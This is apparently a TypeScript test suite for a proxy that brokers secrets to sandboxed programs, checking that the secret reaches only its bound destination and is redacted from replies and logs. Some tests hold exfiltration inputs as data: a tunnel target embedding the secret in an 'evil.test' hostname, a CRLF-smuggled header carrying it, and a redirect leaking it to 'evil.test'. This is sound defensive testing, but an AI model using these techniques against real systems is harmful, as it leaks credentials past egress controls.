import type { ServerResponse } from "node:http";
import { connect } from "node:net";
import { type Test, test } from "tap";
import { containerLimits } from "../../manifests/container-limits.ts";
import type { SecretDestination, SecretPlace } from "../../manifests/secret.ts";
import { canary, type SecretNet, secretNet } from "./broker-secrets-fixtures.ts";
import { titleOf } from "./catalogue.ts";
import { ask, codeOfTold, exchangeBytes, statusOf, testProxy, type Way } from "./proxy-fixtures.ts";
import {
  broken,
  granted,
  header,
  misused,
  type Reply,
  reflections,
  saysCanary,
} from "./proxy-secrets-attacks.ts";
import { connectLines } from "./proxy-tunnel-fixtures.ts";

// Ring 8, the broker: what a program may send and hear of a secret is what a tool may.

interface Bound extends Way {
  readonly at: SecretNet;
  readonly handle: string;
}

/** A call with a secret for the server, whose handle it has been given. */
async function bound(t: Test, place: SecretPlace, options: Options = {}): Promise<Bound> {
  const { reply = (response: ServerResponse) => response.end("ok"), to } = options;
  const at = await secretNet(t, (request, response) => void reply(response, request));
  const door = at.openBound(place, to);
  t.teardown(() => door.close());
  const socket = await testProxy(t).open("0".repeat(32));
  const path = `${socket.folder}/proxy.sock`;
  const way = { door, socket, path, credential: socket.admit(door) };
  const told = await ask(way, { target: "/host/secret", method: "POST", body: '{"name":"key"}' });
  return { ...way, at, handle: JSON.parse(told.body) };
}

interface Options {
  readonly reply?: Reply;
  readonly to?: Partial<SecretDestination>;
}

for (const [name, [place, asked, seen]] of Object.entries(granted)) {
  test(`${titleOf("N21")}: in ${name} it arrives, and is named in the book without its value`, async (t) => {
    const way = await bound(t, place);
    const told = await ask(way, asked(way));
    t.equal(told.body, "ok");
    t.ok(way.at.heard[0]?.includes(seen), way.at.heard[0] ?? "nothing");
    t.notOk(way.at.heard[0]?.includes(way.handle));
    t.match(way.door.entries.at(-1), { door: "fetch", secrets: ["key"], address: "127.0.0.1" });
    t.strictSame(way.door.read, { integrity: "untrusted", confidentiality: "public" });
    t.notOk(saysCanary([told, way.door.entries]));
  });
}

for (const [name, asked] of Object.entries(misused)) {
  test(`${titleOf("N21")}: to ${name}`, async (t) => {
    const way = await bound(t, header, { to: { methods: ["GET"], path: "/v1" } });
    t.equal(codeOfTold(await ask(way, asked(way))), "SECRET_MISUSED");
    t.strictSame([way.at.heard, way.at.reads], [[], []]);
    t.match(way.door.entries.at(-1), { code: "SECRET_MISUSED" });
    const next = await ask(way, { target: `${way.at.url}/v1` });
    t.equal(codeOfTold(next), "SECRET_MISUSED", "such a call is served no more");
  });
}

test(`${titleOf("N21")}: in the clear to another machine, also where its binding says so`, async (t) => {
  const way = await bound(t, header, { to: { host: "far.test" } });
  const target = way.at.url.replace("tool.test", "far.test");
  const told = await ask(way, { target, headers: { authorization: way.handle } });
  t.equal(codeOfTold(told), "EGRESS_DENIED");
  t.strictSame(way.at.reads, [], "nobody has read its value");
  t.match(way.door.entries.at(-1), { code: "EGRESS_DENIED", address: "10.0.0.1" });
});

test(`${titleOf("N21")}: to a tunnel, by name or along with it`, async (t) => {
  for (const of of [
    (handle: string) => [`${handle}.evil.test:443`],
    (handle: string) => ["tool.test:443", `tool.test:443\r\nX-A: ${handle}`],
  ]) {
    const way = await bound(t, header);
    const [target = "", host] = of(way.handle);
    const told = await exchangeBytes(t, way.path, connectLines(way, target, host));
    t.match([statusOf(told), told], ["403", "SECRET_MISUSED"]);
  }
});

for (const [name, [body, type, code]] of Object.entries(broken)) {
  test(`${titleOf("N23")}: ${name}`, async (t) => {
    const way = await bound(t, { json: "/token" });
    const headers = { "content-type": type };
    const asked = { target: way.at.url, method: "POST", headers, body: body(way.handle) };
    t.equal(codeOfTold(await ask(way, asked)), code);
    t.strictSame([way.at.heard, way.at.reads], [[], []]);
  });
}

test(`${titleOf("N23")}: in chunks of a few bytes it is whole`, async (t) => {
  const way = await bound(t, { json: "/token" });
  const body = `{"token":"${way.handle}"}`;
  const chunks = (body.match(/.{1,7}/g) ?? []).map((part) => `${part.length}\r\n${part}\r\n`);
  const lines = connectLines(way, "x").split("\r\n").slice(2, 3);
  const first = `POST ${way.at.url} HTTP/1.1\r\nHost: tool.test:${way.at.port}\r\n${lines[0]}\r\n`;
  const rest = `Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n${chunks.join("")}0\r\n\r\n`;
  t.equal(statusOf(await exchangeBytes(t, way.path, first + rest)), "200");
  t.ok(way.at.heard[0]?.includes(`{"token":${JSON.stringify(canary)}}`), `${way.at.heard}`);
});

for (const [name, reply] of Object.entries(reflections)) {
  test(`${titleOf("N22")}: in ${name}`, async (t) => {
    const way = await bound(t, header, { reply });
    const told = await ask(way, { target: way.at.url, headers: { authorization: way.handle } });
    t.ok(way.at.heard[0]?.includes(JSON.stringify(`Bearer ${canary}`)), "it was sent");
    t.notOk(saysCanary(told), JSON.stringify(told));
    if (!name.startsWith("the reason")) t.match(JSON.stringify(told), "[redacted:key]");
    const later = await ask(way, { target: way.at.url });
    t.notOk(saysCanary(later), "nor to the next request");
  });
}

test("a program that takes nothing of an answer that is held for it ends with its time", async (t) => {
  t.intercept(containerLimits, "egressMs", { value: 100 as never, configurable: true });
  t.intercept(containerLimits, "helloMs", { value: 100 as never, configurable: true });
  const way = await bound(t, header, {
    reply: (response) => response.end(Buffer.alloc(1_000_000)),
  });
  const onread = { buffer: Buffer.alloc(16), callback: () => false };
  const deaf = connect({ path: way.path, onread });
  deaf.on("error", () => undefined);
  const [, , credential] = connectLines(way, "x").split("\r\n");
  const host = `tool.test:${way.at.port}`;
  deaf.write(`GET ${way.at.url} HTTP/1.1\r\nHost: ${host}\r\n${credential}\r\n\r\n`);
  while (way.door.entries.length < 2) await new Promise((resolve) => setTimeout(resolve, 5));
  t.match(way.door.entries.at(-1), { action: "GET", code: "EGRESS_FAILED" });
});

test(`${titleOf("N22")}: a redirect with the secret in it`, async (t) => {
  const reply: Reply = (response) =>
    response.writeHead(302, { location: `http://evil.test/?${encodeURIComponent(canary)}` }).end();
  const way = await bound(t, header, { reply });
  const told = await ask(way, { target: way.at.url, headers: { authorization: way.handle } });
  t.equal(codeOfTold(told), "EGRESS_DENIED");
});

test(`${titleOf("N22")}: an answer that was begun before the secret was sent`, async (t) => {
  let first: ServerResponse | undefined;
  const reply: Reply = (response, request) => {
    if (request.url === "/first") first = response.writeHead(200).flushHeaders() ?? response;
    else first?.end(`the other one sent ${canary}`, () => response.end("ok"));
  };
  const way = await bound(t, header, { reply });
  const waiting = ask(way, { target: `${way.at.url}/first` });
  while (way.at.heard.length === 0) await new Promise((resolve) => setImmediate(resolve));
  await ask(way, { target: way.at.url, headers: { authorization: way.handle } });
  t.match((await waiting).body, "the other one sent [redacted:key]");
});

test(`${titleOf("N22")}: TRACE, and a part of an answer`, async (t) => {
  const way = await bound(t, header);
  const trace = { target: way.at.url, method: "TRACE" };
  t.equal(codeOfTold(await ask(way, trace)), "EGRESS_DENIED");
  const headers = { authorization: way.handle, range: "bytes=0-3" };
  t.equal(codeOfTold(await ask(way, { target: way.at.url, headers })), "EGRESS_DENIED");
  t.strictSame(way.at.heard, []);
});

test("what is no text and holds no secret goes through as it is", async (t) => {
  const bytes = Buffer.from(Array.from({ length: 256 }, (_, byte) => byte));
  const way = await bound(t, header, { reply: (response) => response.end(bytes) });
  const told = await ask(way, { target: way.at.url, headers: { authorization: way.handle } });
  t.strictSame(Buffer.from(told.body, "latin1"), bytes);
});
